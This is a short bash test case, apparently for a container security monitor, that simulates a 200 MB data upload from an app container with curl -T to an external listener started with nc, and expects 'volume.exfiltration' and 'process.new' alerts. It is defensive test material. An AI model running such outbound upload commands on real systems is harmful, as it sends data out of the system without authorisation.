# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='200 MB leave by curl -T to a new place'
case_class=A
case_prepare() {
	run app pg-many node /srv/node/app.js
	client_of c "http://A15curl-app:3000/"
}
case_attack() {
	lab_in outside timeout 20 sh -c 'nc -l -p 9416 >/dev/null </dev/null' &
	sleep 0.3
	in_ app sh -c 'head -c 200000000 /dev/zero | curl -s -m 10 -T - http://203.0.113.9:9416/x'
	sleep 1
}
case_expect='process.new A15curl-app /usr/bin/curl *
volume.exfiltration A15curl-app /usr/bin/curl ext:203.0.113.9'
